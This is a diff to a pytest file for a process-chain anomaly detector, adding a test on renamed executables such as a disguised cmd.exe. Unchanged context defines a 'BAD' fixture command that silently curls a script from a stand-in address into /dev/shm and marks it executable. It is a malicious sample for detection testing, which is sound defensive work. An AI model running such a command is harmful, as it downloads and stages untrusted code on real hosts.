@@ -9,12 +9,14 @@ import pytest
 
 from engine.detector import Detector, DetectorParams
 from engine.detector.params import PUBLISHED
+from engine.rules.rule import Rule, RuleSet, State
 from tests.engine.detector.conftest import QUICK
-from tests.engine.process_samples import make_table
+from tests.engine.process_samples import make_table, with_originals
 
 CRON = ("/usr/sbin/cron", "/bin/sh")
 ROOT = CRON[:1]
 GOOD, BAD = "sh -c 'debian-sa1 {} 1'", "sh -c 'curl -s http://192.0.2.9/x.sh -o /dev/shm/.x && chmod +x /dev/shm/.x'"
+RULES = RuleSet.of([Rule(r"^v([0-9]{1,3})$", "<version>", "version", state=State.ACCEPTED)])
 OTHERS = [f"/opt/tool{number}" for number in range(30)]
 
 
@@ -62,6 +64,21 @@ def test_the_findings_are_made_of_them(fitted: Detector):
     number = findings.of_process()
     assert number[61] == number[62] < number[1]
     assert len(set(number[6:61].tolist())) == len(set(number[1:6].tolist())) == 1
+
+
+@pytest.mark.parametrize("normalising", [True, False])
+def test_a_renamed_tool_lifts_its_process_through_rules_and_variants(normalising: bool):
+    explorer = "c:\\windows\\explorer.exe"
+    tools = [f"c:\\program files\\v{number}\\tool{number % 5}.exe" for number in range(30)]
+    rows = [((explorer,), -1, "explorer"), *[((explorer, tool), 0, "run it") for tool in tools for _ in range(3)]]
+    corpus, table = make_table(rows)
+    rules = RULES if normalising else None
+    fitted = Detector(QUICK).fit(corpus, processes=table, rules=rules)
+    named = with_originals(table, [None] * 7 + ["Cmd.Exe"] + ["app.exe"] * (len(rows) - 8))
+    plain, scores = fitted.score(corpus, processes=table), fitted.score(corpus, processes=named)
+    assert scores.process_score[7] > plain.process_score[7] + 0.05
+    assert scores.process_score[1:].argmax() + 1 == 7
+    assert "version resource says cmd" in scores.expectations[int(table.chain[7])].reasons.sentences["command_rules"]
 
 
 def test_what_has_no_chain_has_no_score(fitted: Detector):
